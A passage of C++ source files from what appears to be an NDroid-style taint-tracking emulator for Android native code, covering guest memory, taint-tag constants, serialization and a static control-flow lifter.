  // live_bytes_ was non-zero on entry and OR only grows it: no liveness
  // crossing is possible, matching the per-byte add() sequence.
}

void ShadowMemory::clear_all() {
  const bool was = live_bytes_ != 0;
  if (mutation_slot_ != nullptr && live_bytes_ != 0) ++*mutation_slot_;
  for (std::unique_ptr<Leaf>& leaf : root_) leaf.reset();
  resident_ = 0;
  live_bytes_ = 0;
  tlb_.fill(TlbEntry{});
  jit_tlb_.fill(JitTlbEntry{});
  note_liveness(was);
}

}  // namespace ndroid::mem
