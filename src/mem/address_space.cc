#include "mem/address_space.h"

#include <algorithm>
#include <cstring>

namespace ndroid::mem {

AddressSpace::Page& AddressSpace::touch_page(GuestAddr addr) {
  const u32 page_no = addr >> kPageShift;
  std::unique_ptr<Leaf>& leaf = root_[page_no >> kLeafBits];
  if (leaf == nullptr) leaf = std::make_unique<Leaf>();
  std::unique_ptr<Page>& page = leaf->pages[page_no & (kLeafSlots - 1)];
  if (page == nullptr) {
    page = std::make_unique<Page>();
    page->fill(0);
    ++resident_;
  }
  return *page;
}

u8 AddressSpace::read8_slow(GuestAddr addr) const {
  Page* p = find_page(addr);
  if (p == nullptr) return 0;
  fill_read_tlb(addr >> kPageShift, *p);
  return (*p)[addr & kPageMask];
}

u16 AddressSpace::read16_slow(GuestAddr addr) const {
  if ((addr & kPageMask) > kPageSize - 2)  // straddles a page boundary
    return static_cast<u16>(read8(addr)) |
           (static_cast<u16>(read8(addr + 1)) << 8);
  Page* p = find_page(addr);
  if (p == nullptr) return 0;
  fill_read_tlb(addr >> kPageShift, *p);
  u16 v;
  std::memcpy(&v, p->data() + (addr & kPageMask), 2);
  return v;
}

u32 AddressSpace::read32_slow(GuestAddr addr) const {
  if ((addr & kPageMask) > kPageSize - 4)
    return static_cast<u32>(read16(addr)) |
           (static_cast<u32>(read16(addr + 2)) << 16);
  Page* p = find_page(addr);
  if (p == nullptr) return 0;
  fill_read_tlb(addr >> kPageShift, *p);
  u32 v;
  std::memcpy(&v, p->data() + (addr & kPageMask), 4);
  return v;
}

u64 AddressSpace::read64(GuestAddr addr) const {
  return static_cast<u64>(read32(addr)) |
         (static_cast<u64>(read32(addr + 4)) << 32);
}

void AddressSpace::write8_slow(GuestAddr addr, u8 value) {
  Page& p = touch_page(addr);
  p[addr & kPageMask] = value;
  notify_write(addr, 1);
  fill_write_tlb(addr >> kPageShift, p);
}

void AddressSpace::write16_slow(GuestAddr addr, u16 value) {
  if ((addr & kPageMask) > kPageSize - 2) {
    write8(addr, static_cast<u8>(value));
    write8(addr + 1, static_cast<u8>(value >> 8));
    return;
  }
  Page& p = touch_page(addr);
  std::memcpy(p.data() + (addr & kPageMask), &value, 2);
  notify_write(addr, 2);
  fill_write_tlb(addr >> kPageShift, p);
}

void AddressSpace::write32_slow(GuestAddr addr, u32 value) {
  if ((addr & kPageMask) > kPageSize - 4) {
    write16(addr, static_cast<u16>(value));
    write16(addr + 2, static_cast<u16>(value >> 16));
    return;
  }
  Page& p = touch_page(addr);
  std::memcpy(p.data() + (addr & kPageMask), &value, 4);
  notify_write(addr, 4);
  fill_write_tlb(addr >> kPageShift, p);
}

void AddressSpace::write64(GuestAddr addr, u64 value) {
  write32(addr, static_cast<u32>(value));
  write32(addr + 4, static_cast<u32>(value >> 32));
}

void AddressSpace::read_bytes(GuestAddr addr, std::span<u8> out) const {
  std::size_t done = 0;
  while (done < out.size()) {
    const GuestAddr cur = addr + static_cast<u32>(done);
    const u32 in_page = cur & kPageMask;
    const u32 chunk = std::min<u32>(kPageSize - in_page,
                                    static_cast<u32>(out.size() - done));
    if (const Page* p = find_page(cur)) {
      std::memcpy(out.data() + done, p->data() + in_page, chunk);
    } else {
      std::memset(out.data() + done, 0, chunk);
    }
    done += chunk;
  }
}

void AddressSpace::write_bytes(GuestAddr addr, std::span<const u8> in) {
  std::size_t done = 0;
  while (done < in.size()) {
    const GuestAddr cur = addr + static_cast<u32>(done);
    const u32 in_page = cur & kPageMask;
    const u32 chunk = std::min<u32>(kPageSize - in_page,
                                    static_cast<u32>(in.size() - done));
    std::memcpy(touch_page(cur).data() + in_page, in.data() + done, chunk);
    done += chunk;
  }
  if (!in.empty()) notify_write(addr, static_cast<u32>(in.size()));
}

std::string AddressSpace::read_cstr(GuestAddr addr, u32 max_len) const {
  std::string out;
  u32 scanned = 0;
  while (scanned < max_len) {
    const GuestAddr cur = addr + scanned;
    const u32 chunk =
        std::min(kPageSize - (cur & kPageMask), max_len - scanned);
    const Page* p = find_page(cur);
    if (p == nullptr) return out;  // absent page reads as zero: terminator
    const u8* base = p->data() + (cur & kPageMask);
    if (const void* nul = std::memchr(base, 0, chunk)) {
      out.append(reinterpret_cast<const char*>(base),
                 static_cast<std::size_t>(static_cast<const u8*>(nul) - base));
      return out;
    }
    out.append(reinterpret_cast<const char*>(base), chunk);
    scanned += chunk;
  }
  throw GuestFault("unterminated guest string at 0x" + std::to_string(addr));
}

void AddressSpace::write_cstr(GuestAddr addr, std::string_view s) {
  write_bytes(addr, {reinterpret_cast<const u8*>(s.data()), s.size()});
  write8(addr + static_cast<u32>(s.size()), 0);
}

void AddressSpace::fill(GuestAddr addr, u8 value, u32 len) {
  if (len == 0) return;
  u32 done = 0;
  while (done < len) {
    const GuestAddr cur = addr + done;
    const u32 chunk = std::min(kPageSize - (cur & kPageMask), len - done);
    if (value == 0 && find_page(cur) == nullptr) {
      done += chunk;  // untouched memory already reads as zero
      continue;
    }
    Page& p = touch_page(cur);
    std::memset(p.data() + (cur & kPageMask), value, chunk);
    done += chunk;
  }
  notify_write(addr, len);
}

void AddressSpace::copy(GuestAddr dst, GuestAddr src, u32 len) {
  if (len == 0 || dst == src) return;
  // Chunks are bounded by both the source and destination page boundaries,
  // so each is a single memmove (or memset for an untouched source page)
  // between host pages. Chunks run in ascending address order when dst is
  // below src and descending when the ranges overlap with dst above src;
  // with the per-chunk memmove that reproduces full memmove semantics.
  const bool backward = dst > src && dst < src + len;
  u32 done = backward ? len : 0;
  for (u32 remaining = len; remaining > 0;) {
    u32 pos;
    u32 chunk;
    if (backward) {
      const u32 src_room = ((src + done - 1) & kPageMask) + 1;
      const u32 dst_room = ((dst + done - 1) & kPageMask) + 1;
      chunk = std::min({src_room, dst_room, remaining});
      pos = done - chunk;
      done = pos;
    } else {
      const u32 src_room = kPageSize - ((src + done) & kPageMask);
      const u32 dst_room = kPageSize - ((dst + done) & kPageMask);
      chunk = std::min({src_room, dst_room, remaining});
      pos = done;
      done += chunk;
    }
    const Page* sp = find_page(src + pos);
    u8* d = touch_page(dst + pos).data() + ((dst + pos) & kPageMask);
    if (sp != nullptr) {
      std::memmove(d, sp->data() + ((src + pos) & kPageMask), chunk);
    } else {
      std::memset(d, 0, chunk);
    }
    remaining -= chunk;
  }
  notify_write(dst, len);
}

}  // namespace ndroid::mem
