#include "mem/address_space.h"

#include <algorithm>

namespace ndroid::mem {

const AddressSpace::Page* AddressSpace::find_page(GuestAddr addr) const {
  auto it = pages_.find(addr >> kPageShift);
  return it == pages_.end() ? nullptr : it->second.get();
}

AddressSpace::Page& AddressSpace::touch_page(GuestAddr addr) {
  auto& slot = pages_[addr >> kPageShift];
  if (!slot) {
    slot = std::make_unique<Page>();
    slot->fill(0);
  }
  return *slot;
}

u8 AddressSpace::read8(GuestAddr addr) const {
  const Page* p = find_page(addr);
  return p ? (*p)[addr & kPageMask] : 0;
}

u16 AddressSpace::read16(GuestAddr addr) const {
  if ((addr & kPageMask) <= kPageSize - 2) {  // fast path: one page
    const Page* p = find_page(addr);
    if (p == nullptr) return 0;
    u16 v;
    std::memcpy(&v, p->data() + (addr & kPageMask), 2);
    return v;
  }
  u16 v = 0;
  u8 buf[2];
  read_bytes(addr, buf);
  std::memcpy(&v, buf, 2);
  return v;
}

u32 AddressSpace::read32(GuestAddr addr) const {
  if ((addr & kPageMask) <= kPageSize - 4) {
    const Page* p = find_page(addr);
    if (p == nullptr) return 0;
    u32 v;
    std::memcpy(&v, p->data() + (addr & kPageMask), 4);
    return v;
  }
  u32 v = 0;
  u8 buf[4];
  read_bytes(addr, buf);
  std::memcpy(&v, buf, 4);
  return v;
}

u64 AddressSpace::read64(GuestAddr addr) const {
  u64 v = 0;
  u8 buf[8];
  read_bytes(addr, buf);
  std::memcpy(&v, buf, 8);
  return v;
}

void AddressSpace::write8(GuestAddr addr, u8 value) {
  touch_page(addr)[addr & kPageMask] = value;
  notify_write(addr, 1);
}

void AddressSpace::write16(GuestAddr addr, u16 value) {
  if ((addr & kPageMask) <= kPageSize - 2) {
    std::memcpy(touch_page(addr).data() + (addr & kPageMask), &value, 2);
    notify_write(addr, 2);
    return;
  }
  u8 buf[2];
  std::memcpy(buf, &value, 2);
  write_bytes(addr, buf);
}

void AddressSpace::write32(GuestAddr addr, u32 value) {
  if ((addr & kPageMask) <= kPageSize - 4) {
    std::memcpy(touch_page(addr).data() + (addr & kPageMask), &value, 4);
    notify_write(addr, 4);
    return;
  }
  u8 buf[4];
  std::memcpy(buf, &value, 4);
  write_bytes(addr, buf);
}

void AddressSpace::write64(GuestAddr addr, u64 value) {
  u8 buf[8];
  std::memcpy(buf, &value, 8);
  write_bytes(addr, buf);
}

void AddressSpace::read_bytes(GuestAddr addr, std::span<u8> out) const {
  std::size_t done = 0;
  while (done < out.size()) {
    const GuestAddr cur = addr + static_cast<u32>(done);
    const u32 in_page = cur & kPageMask;
    const u32 chunk = std::min<u32>(kPageSize - in_page,
                                    static_cast<u32>(out.size() - done));
    if (const Page* p = find_page(cur)) {
      std::memcpy(out.data() + done, p->data() + in_page, chunk);
    } else {
      std::memset(out.data() + done, 0, chunk);
    }
    done += chunk;
  }
}

void AddressSpace::write_bytes(GuestAddr addr, std::span<const u8> in) {
  std::size_t done = 0;
  while (done < in.size()) {
    const GuestAddr cur = addr + static_cast<u32>(done);
    const u32 in_page = cur & kPageMask;
    const u32 chunk = std::min<u32>(kPageSize - in_page,
                                    static_cast<u32>(in.size() - done));
    std::memcpy(touch_page(cur).data() + in_page, in.data() + done, chunk);
    done += chunk;
  }
  if (!in.empty()) notify_write(addr, static_cast<u32>(in.size()));
}

std::string AddressSpace::read_cstr(GuestAddr addr, u32 max_len) const {
  std::string out;
  for (u32 i = 0; i < max_len; ++i) {
    const u8 c = read8(addr + i);
    if (c == 0) return out;
    out.push_back(static_cast<char>(c));
  }
  throw GuestFault("unterminated guest string at 0x" + std::to_string(addr));
}

void AddressSpace::write_cstr(GuestAddr addr, std::string_view s) {
  write_bytes(addr, {reinterpret_cast<const u8*>(s.data()), s.size()});
  write8(addr + static_cast<u32>(s.size()), 0);
}

void AddressSpace::fill(GuestAddr addr, u8 value, u32 len) {
  for (u32 i = 0; i < len; ++i) write8(addr + i, value);
}

void AddressSpace::copy(GuestAddr dst, GuestAddr src, u32 len) {
  if (len == 0 || dst == src) return;
  if (dst > src && dst < src + len) {
    for (u32 i = len; i-- > 0;) write8(dst + i, read8(src + i));
  } else {
    for (u32 i = 0; i < len; ++i) write8(dst + i, read8(src + i));
  }
}

}  // namespace ndroid::mem
