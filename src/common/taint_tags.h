// TaintDroid taint-tag bit assignments.
//
// "The taint labels in TaintDroid are represented by 32bit integers, each
// bit of a taint label indicates one type of sensitive information, and
// different types of sensitive information are combined by the union
// operation" (paper §II-B). Values follow TaintDroid's taint.h so the tag
// values seen in the paper's logs reproduce literally: QQPhoneBook's 0x202
// is SMS|CONTACTS (Fig. 6); the case-3 PoC's 0x1602 is
// ICCID|IMEI|SMS|CONTACTS (Fig. 9).
#pragma once

#include "common/types.h"

namespace ndroid {

inline constexpr Taint kTaintLocation = 0x00000001;
inline constexpr Taint kTaintContacts = 0x00000002;
inline constexpr Taint kTaintMic = 0x00000004;
inline constexpr Taint kTaintPhoneNumber = 0x00000008;
inline constexpr Taint kTaintLocationGps = 0x00000010;
inline constexpr Taint kTaintLocationNet = 0x00000020;
inline constexpr Taint kTaintLocationLast = 0x00000040;
inline constexpr Taint kTaintCamera = 0x00000080;
inline constexpr Taint kTaintAccelerometer = 0x00000100;
inline constexpr Taint kTaintSms = 0x00000200;
inline constexpr Taint kTaintImei = 0x00000400;
inline constexpr Taint kTaintImsi = 0x00000800;
inline constexpr Taint kTaintIccid = 0x00001000;
inline constexpr Taint kTaintDeviceSn = 0x00002000;
inline constexpr Taint kTaintAccount = 0x00004000;
inline constexpr Taint kTaintHistory = 0x00008000;

}  // namespace ndroid
