// Common fixed-width aliases and small utilities shared by every module.
#pragma once

#include <cstdint>
#include <stdexcept>
#include <string>

namespace ndroid {

using u8 = std::uint8_t;
using u16 = std::uint16_t;
using u32 = std::uint32_t;
using u64 = std::uint64_t;
using i8 = std::int8_t;
using i16 = std::int16_t;
using i32 = std::int32_t;
using i64 = std::int64_t;

/// Guest virtual address (the emulated machine is 32-bit ARM).
using GuestAddr = u32;

/// Taint label: 32-bit bitvector, one bit per sensitive-information type,
/// combined with bitwise OR (TaintDroid's representation, paper §II-B).
using Taint = u32;

inline constexpr Taint kTaintClear = 0;

/// Fatal guest-side error (bad memory access, undecodable instruction, ...).
class GuestFault : public std::runtime_error {
 public:
  explicit GuestFault(const std::string& what) : std::runtime_error(what) {}
};

}  // namespace ndroid
