// Approximate membership filter over guest addresses.
//
// The hook engines consult a filter on every taken branch to decide whether
// the (much bigger) dispatch body needs to run at all. The filter may say
// "maybe" for an address that was never added (hash collision) — the caller
// then runs its full dispatch, which no-ops — but it never says "no" for an
// address that WAS added, so hooks are never lost.
#pragma once

#include <array>

#include "common/types.h"

namespace ndroid {

class AddrBloom {
 public:
  void add(GuestAddr addr) { bits_[word(addr)] |= bit(addr); }

  /// True if `addr` may have been added; false only if it definitely wasn't.
  [[nodiscard]] bool maybe(GuestAddr addr) const {
    return (bits_[word(addr)] & bit(addr)) != 0;
  }

  void clear() { bits_.fill(0); }

 private:
  static constexpr u32 kBits = 12;  // 4096-bit table, 512 bytes

  [[nodiscard]] static u32 index(GuestAddr addr) {
    return static_cast<u32>((addr * 0x9E3779B97F4A7C15ull) >> (64 - kBits));
  }
  [[nodiscard]] static u32 word(GuestAddr addr) { return index(addr) >> 6; }
  [[nodiscard]] static u64 bit(GuestAddr addr) {
    return 1ull << (index(addr) & 63);
  }

  std::array<u64, (1u << kBits) / 64> bits_{};
};

}  // namespace ndroid
