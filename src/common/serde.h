// Little-endian byte serialization shared by the persistent summary store
// (src/static/summary_store) and the farm's cross-process result protocol
// (src/farm/process_pool).
//
// The encoding is deliberately dumb: fixed-width fields written lowest byte
// first, length-prefixed strings and sequences, doubles as IEEE-754 bit
// patterns. No padding bytes ever reach the output, so the same value
// always encodes to the same bytes — the property the store's
// content-hash verification and the bench's cross-run comparisons rely on.
//
// Reader is strict: every primitive checks bounds and every sequence count
// is validated against the bytes actually remaining (with a caller-supplied
// minimum element size), so a bit-flipped length field raises DecodeError
// instead of a multi-gigabyte allocation. Callers treat DecodeError as
// "corrupt input" and fall back (the store re-lifts; the supervisor marks
// the worker dead).
#pragma once

#include <cstring>
#include <span>
#include <stdexcept>
#include <string>
#include <vector>

#include "common/types.h"

namespace ndroid::serde {

class DecodeError : public std::runtime_error {
 public:
  explicit DecodeError(const std::string& what) : std::runtime_error(what) {}
};

class Writer {
 public:
  void put_u8(u8 v) { buf_.push_back(v); }
  void put_u16(u16 v) { put_le(v, 2); }
  void put_u32(u32 v) { put_le(v, 4); }
  void put_u64(u64 v) { put_le(v, 8); }
  void put_i32(i32 v) { put_le(static_cast<u32>(v), 4); }
  void put_bool(bool v) { put_u8(v ? 1 : 0); }
  void put_f64(double v) {
    u64 bits = 0;
    std::memcpy(&bits, &v, sizeof bits);
    put_u64(bits);
  }
  void put_str(const std::string& s) {
    put_u32(static_cast<u32>(s.size()));
    buf_.insert(buf_.end(), s.begin(), s.end());
  }
  void put_bytes(std::span<const u8> bytes) {
    buf_.insert(buf_.end(), bytes.begin(), bytes.end());
  }

  [[nodiscard]] const std::vector<u8>& bytes() const { return buf_; }
  std::vector<u8> take() { return std::move(buf_); }

 private:
  void put_le(u64 v, int n) {
    for (int i = 0; i < n; ++i) buf_.push_back(static_cast<u8>(v >> (8 * i)));
  }
  std::vector<u8> buf_;
};

class Reader {
 public:
  explicit Reader(std::span<const u8> bytes) : bytes_(bytes) {}

  u8 get_u8() { return static_cast<u8>(get_le(1)); }
  u16 get_u16() { return static_cast<u16>(get_le(2)); }
  u32 get_u32() { return static_cast<u32>(get_le(4)); }
  u64 get_u64() { return get_le(8); }
  i32 get_i32() { return static_cast<i32>(get_u32()); }
  bool get_bool() {
    const u8 v = get_u8();
    if (v > 1) throw DecodeError("bad bool");
    return v != 0;
  }
  double get_f64() {
    const u64 bits = get_u64();
    double v = 0;
    std::memcpy(&v, &bits, sizeof v);
    return v;
  }
  std::string get_str() {
    const u32 n = get_count(1);
    std::string s(reinterpret_cast<const char*>(bytes_.data() + pos_), n);
    pos_ += n;
    return s;
  }

  /// Sequence length whose elements each occupy at least `min_elem_bytes`;
  /// rejects counts the remaining input can't possibly hold.
  u32 get_count(std::size_t min_elem_bytes) {
    const u32 n = get_u32();
    if (min_elem_bytes != 0 && n > remaining() / min_elem_bytes) {
      throw DecodeError("sequence count exceeds input");
    }
    return n;
  }

  [[nodiscard]] std::size_t remaining() const { return bytes_.size() - pos_; }
  /// Every byte must be consumed (trailing garbage = corruption).
  void expect_end() const {
    if (pos_ != bytes_.size()) throw DecodeError("trailing bytes");
  }

 private:
  u64 get_le(std::size_t n) {
    if (remaining() < n) throw DecodeError("input truncated");
    u64 v = 0;
    for (std::size_t i = 0; i < n; ++i) {
      v |= static_cast<u64>(bytes_[pos_ + i]) << (8 * i);
    }
    pos_ += n;
    return v;
  }

  std::span<const u8> bytes_;
  std::size_t pos_ = 0;
};

}  // namespace ndroid::serde
