// Position-independent per-library static analysis artifacts.
//
// PR-2's pipeline (CFG lift + taint summaries) ran once per process over the
// union of an app's code regions, so every analysis run recomputed every
// library from scratch. This layer splits that work into two halves:
//
//  * analyze_library — the expensive half. Lifts one library image and
//    computes its taint summaries, recording the base it was lifted at.
//    The result is immutable and keyed by a content hash of the image bytes
//    plus the JNI entry offsets, so byte-identical libraries met by
//    different apps (or the same app analyzed again) produce the same key
//    and the artifact can be shared process-wide (see SummaryCache).
//
//  * bind_library — the cheap per-process half. Adapts a LibrarySummary to
//    the base address a particular process mapped the library at. When the
//    bases coincide (the common case: the Device layout is deterministic)
//    this is zero-copy — the caller shares the published snapshot. When
//    they differ, the control-flow structure is relocated by the base delta
//    (instruction bytes are identical, so decode and every PC-relative
//    target shift exactly), and every fact that can bake an absolute
//    address into its meaning degrades conservatively:
//      - constant-address memory windows come from MOVW/MOVT pairs and
//        PC-literal pools, whose absolute values do not move with the code;
//        summaries carrying them fall back to MemKind::kOpaque;
//      - BLX-through-constant call targets likewise still point at the old
//        addresses; functions with any call site keep only their structural
//        facts (touched_regs) and take worst-case arg-flow facts.
//    Call-free pure-register functions — the transparent ones — relocate
//    losslessly.
#pragma once

#include <map>
#include <memory>
#include <span>
#include <string>
#include <unordered_set>
#include <vector>

#include "mem/address_space.h"
#include "static/cfg.h"
#include "static/summary.h"

namespace ndroid::static_analysis {

/// FNV-1a 64-bit over a byte span (the library content hash primitive).
[[nodiscard]] u64 fnv1a(std::span<const u8> bytes, u64 seed = 0xcbf29ce484222325ull);

/// Cache key for one library: image bytes + the registered JNI entry points
/// expressed as image-relative offsets (bit 0 = Thumb). Entry *names* are
/// excluded — they carry the registering app's class descriptor, and two
/// apps that map the same .so and register the same entry offsets must get
/// the same key regardless of load address or package name (the shared
/// snapshot keeps the first lifter's diagnostic labels).
[[nodiscard]] u64 library_key(std::span<const u8> image,
                              const std::vector<FunctionEntry>& entries,
                              GuestAddr base);

/// The shareable artifact: one library's lifted program and summaries,
/// valid as-is for processes that map the image at `lifted_base`.
/// Immutable after analyze_library returns; share via shared_ptr.
struct LibrarySummary {
  u64 key = 0;
  std::string name;
  GuestAddr lifted_base = 0;
  u32 image_size = 0;
  Program program;
  SummaryIndex index;
  /// Instruction-start addresses of every lifted block, per function entry.
  /// Precomputed here (not in SummaryGate) so attaching the snapshot to yet
  /// another process costs O(functions), not O(instructions) — the per-app
  /// setup cost the farm's cache amortises.
  std::map<GuestAddr, std::unordered_set<GuestAddr>> boundaries;

  [[nodiscard]] bool in_image(GuestAddr addr) const {
    return addr >= lifted_base && addr < lifted_base + image_size;
  }
};

/// The expensive half: lift and summarize one library. `region` delimits the
/// image inside `memory`; `entries` are the registered native methods whose
/// stripped addresses fall inside the region. Calls that leave the region
/// (cross-library or into system code) are treated as unresolved — the
/// summaries degrade conservatively, exactly as PR-2 treated out-of-scope
/// targets.
[[nodiscard]] LibrarySummary analyze_library(
    const mem::AddressSpace& memory, const CodeRegion& region,
    const std::vector<FunctionEntry>& entries);

/// The cheap half: adapt a published snapshot to a process that mapped the
/// image at `base`. Same base: returns `lib` unchanged (zero-copy). Different
/// base: returns a relocated copy with position-sensitive facts degraded as
/// documented above.
[[nodiscard]] std::shared_ptr<const LibrarySummary> bind_library(
    std::shared_ptr<const LibrarySummary> lib, GuestAddr base);

}  // namespace ndroid::static_analysis
