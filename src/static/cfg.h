// Static CFG lifter over guest native code (pre-analysis layer).
//
// The dynamic tracer (paper §V-C) pays a per-instruction cost inside every
// third-party native function while taint is live. This layer recovers, once
// and ahead of time, the control-flow structure of the native code the JNI
// bridge can reach: per-function basic blocks for ARM and Thumb (reusing the
// src/arm decoder), call-graph edges through BL and constant-resolvable BLX,
// and per-access memory classification via block-local constant propagation
// (MOVW/MOVT pairs, rotated MOV immediates, PC-literal loads, post-index
// writeback). Code pages come from the OS view reconstructor's memory maps
// (§V-F) and JNI entry points from the registered native methods — the same
// two sources the dynamic engines trust.
//
// Everything here is conservative: an unresolved target, an address outside
// the known code regions, or an undecodable instruction simply degrades the
// result (indirect flags set, kUnknown accesses), never invents facts. The
// taint summaries in summary.h only ever *weaken* toward "trace it".
#pragma once

#include <map>
#include <string>
#include <vector>

#include "arm/insn.h"
#include "mem/address_space.h"

namespace ndroid::static_analysis {

/// An executable guest region the lifter may decode from (typically one app
/// .so image discovered through os::ViewReconstructor).
struct CodeRegion {
  GuestAddr start = 0;
  GuestAddr end = 0;  // exclusive
  std::string name;
};

/// A function root: bit 0 of `addr` selects Thumb (the convention native
/// method registration already uses for Method::native_addr).
struct FunctionEntry {
  GuestAddr addr = 0;
  std::string name;
};

/// One static load/store site, classified by how much of its address the
/// block-local constant propagation could pin down.
struct MemAccess {
  enum class Kind : u8 {
    kConstAddr,    // absolute address known at lift time
    kSpRelative,   // base is SP (current stack frame)
    kUnknown,      // anything else (pointer argument, computed address)
  };
  GuestAddr pc = 0;
  Kind kind = Kind::kUnknown;
  GuestAddr addr = 0;  // absolute address window start (kConstAddr only)
  u32 size = 0;        // bytes covered (LDM/STM: whole transfer window)
  bool is_store = false;
};

struct BasicBlock {
  GuestAddr start = 0;
  GuestAddr end = 0;  // exclusive (address after the last instruction)
  std::vector<arm::Insn> insns;
  /// Successor block starts within the same function. A conditional branch
  /// (explicit condition or an IT-covered encoding) contributes both the
  /// target and the fall-through; calls contribute their fall-through.
  std::vector<GuestAddr> succs;
  /// BL/BLX call targets (bit 0 = Thumb), one entry per call site in block
  /// order; 0 marks a BLX through an unresolved register.
  std::vector<GuestAddr> call_targets;
  bool has_indirect_call = false;  // BLX through an unresolved register
  bool is_return = false;          // BX LR / POP{PC} / LDM with PC
  bool has_indirect_jump = false;  // PC written from an unresolved value
};

struct FunctionCfg {
  GuestAddr entry = 0;  // Thumb bit stripped
  bool thumb = false;
  std::string name;
  GuestAddr lo = 0;  // address span covered by the lifted blocks
  GuestAddr hi = 0;  // exclusive
  std::map<GuestAddr, BasicBlock> blocks;
  /// Call-graph edges: resolved callee entries inside the code regions
  /// (bit 0 = callee mode, as in FunctionEntry::addr).
  std::vector<GuestAddr> callees;
  /// Every load/store site, in discovery order.
  std::vector<MemAccess> mem_accesses;
  bool has_svc = false;
  bool has_indirect_calls = false;
  bool has_indirect_jumps = false;
  bool truncated = false;  // hit the per-function instruction budget
  u32 insn_count = 0;

  /// Block containing `pc` (Thumb bit stripped), or nullptr.
  [[nodiscard]] const BasicBlock* block_at(GuestAddr pc) const;
  [[nodiscard]] bool contains(GuestAddr pc) const {
    return pc >= lo && pc < hi;
  }
};

struct Program {
  /// Keyed by entry address (Thumb bit stripped).
  std::map<GuestAddr, FunctionCfg> functions;

  [[nodiscard]] const FunctionCfg* function(GuestAddr entry) const;
  /// Linear scan over [lo, hi) spans — fine for reports and tests; the
  /// dynamic gate builds its own sorted interval table from this map.
  [[nodiscard]] const FunctionCfg* function_containing(GuestAddr pc) const;
};

class CfgLifter {
 public:
  /// Per-function instruction budget; functions that blow it are flagged
  /// `truncated` and summarised as opaque.
  static constexpr u32 kMaxFunctionInsns = 16384;

  CfgLifter(const mem::AddressSpace& memory, std::vector<CodeRegion> regions);

  /// Lifts every entry, then follows resolved call edges transitively
  /// (callees inside the code regions become functions named sub_<addr>).
  [[nodiscard]] Program lift(const std::vector<FunctionEntry>& entries) const;

  [[nodiscard]] bool in_code(GuestAddr addr) const;

 private:
  FunctionCfg lift_function(GuestAddr entry, std::string name) const;
  /// Second pass over final blocks: constant propagation, memory-access
  /// classification, BLX-register resolution. Fills mem_accesses/callees.
  void analyze_blocks(FunctionCfg& fn) const;

  const mem::AddressSpace& memory_;
  std::vector<CodeRegion> regions_;
};

}  // namespace ndroid::static_analysis
