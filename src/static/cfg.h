// Static CFG lifter over guest native code (pre-analysis layer).
//
// The dynamic tracer (paper §V-C) pays a per-instruction cost inside every
// third-party native function while taint is live. This layer recovers, once
// and ahead of time, the control-flow structure of the native code the JNI
// bridge can reach: per-function basic blocks for ARM and Thumb (reusing the
// src/arm decoder), call-graph edges through BL and VSA-resolvable BLX, and
// per-access memory classification via the interprocedural value-set
// analysis in vsa.h (cross-block constant propagation over registers and
// spilled stack slots). Indirect branches through literal-pool jump tables,
// Thumb-2 TBB/TBH and VSA-resolved register targets lower to real multi-way
// successor sets instead of truncating the walk. Code pages come from the OS
// view reconstructor's memory maps (§V-F) and JNI entry points from the
// registered native methods — the same two sources the dynamic engines
// trust.
//
// Everything here is conservative: an unresolved target, an address outside
// the known code regions, or an undecodable instruction simply degrades the
// result (indirect flags set, kUnknown accesses), never invents facts — and
// every degradation is recorded as a DegradeSite so reports can explain
// exactly where and why precision was lost. The taint summaries in summary.h
// only ever *weaken* toward "trace it".
#pragma once

#include <map>
#include <string>
#include <vector>

#include "arm/insn.h"
#include "mem/address_space.h"

namespace ndroid::static_analysis {

/// An executable guest region the lifter may decode from (typically one app
/// .so image discovered through os::ViewReconstructor).
struct CodeRegion {
  GuestAddr start = 0;
  GuestAddr end = 0;  // exclusive
  std::string name;
};

/// A function root: bit 0 of `addr` selects Thumb (the convention native
/// method registration already uses for Method::native_addr).
struct FunctionEntry {
  GuestAddr addr = 0;
  std::string name;
};

/// One static load/store site, classified by how much of its address the
/// value-set analysis could pin down.
struct MemAccess {
  enum class Kind : u8 {
    kConstAddr,    // absolute address (window) known at lift time
    kSpRelative,   // base is SP (current stack frame)
    kUnknown,      // anything else (pointer argument, computed address)
  };
  GuestAddr pc = 0;
  Kind kind = Kind::kUnknown;
  GuestAddr addr = 0;  // absolute address window start (kConstAddr only)
  u32 size = 0;        // bytes covered (LDM/STM: whole transfer window)
  bool is_store = false;
  /// kConstAddr only: the address was derived from PC (literal base, ADR),
  /// so it shifts with the image under bind_library instead of going stale.
  bool image_rel = false;
};

/// Sentinel in BasicBlock::call_targets for a call site whose target the
/// lifter + VSA could not resolve (BLX through an unknown register value).
/// This is a *call-target* gap only: the block's successor set is still
/// complete (calls fall through), unlike `has_indirect_jump` which marks a
/// truncated successor set.
inline constexpr GuestAddr kUnresolvedCallTarget = 0;

/// How a resolved indirect branch found its successor set (metadata kept so
/// bind_library knows which resolutions survive relocation).
enum class JumpTableKind : u8 {
  kNone,       // block does not end in a resolved indirect branch
  kTbb,        // Thumb-2 TBB: byte offset table, PC-relative entries
  kTbh,        // Thumb-2 TBH: halfword offset table, PC-relative entries
  kWordTable,  // LDR pc, [table + index]: absolute words in the image
  kComputed,   // BX/MOV-to-PC through a VSA-singleton value (no table)
};

struct JumpTable {
  JumpTableKind kind = JumpTableKind::kNone;
  GuestAddr table = 0;  // table base (kComputed: the branch target itself)
  u32 entries = 0;      // table entries enumerated (kComputed: 1)
  /// Base address was PC-derived: relocating the image moves the table with
  /// the code. TBB/TBH entries are offsets, so such tables survive a rebase;
  /// kWordTable entries are absolute words and always go stale.
  bool image_rel = false;
};

/// Why a function's facts are weaker than "fully resolved". Reports surface
/// these as the first-degradation site + reason chain (`ndroid-scan
/// --explain`); bind_library appends the kStale* reasons it introduces.
enum class DegradeReason : u8 {
  kTruncated,           // lift hit the per-function instruction budget
  kUnresolvedJump,      // PC written from a value VSA could not bound
  kBranchOutOfImage,    // direct branch leaves the known code regions
  kUnresolvedCall,      // BLX through an unresolved register value
  kCallOutOfImage,      // call target resolves outside the code regions
  kUnknownMemAccess,    // load/store address not const/SP-relative
  kSvc,                 // kernel boundary: effects not statically modelled
  kStaleAbsoluteConst,  // rebased image: absolute const window went stale
  kStaleJumpTable,      // rebased image: resolved table went stale
  kStaleCallTarget,     // rebased image: resolved call target went stale
};

[[nodiscard]] const char* to_string(DegradeReason reason);
[[nodiscard]] const char* to_string(JumpTableKind kind);

/// Number of DegradeReason enumerators (histogram sizing).
inline constexpr std::size_t kDegradeReasonCount =
    static_cast<std::size_t>(DegradeReason::kStaleCallTarget) + 1;

struct DegradeSite {
  GuestAddr pc = 0;
  DegradeReason reason = DegradeReason::kUnresolvedJump;
};

struct BasicBlock {
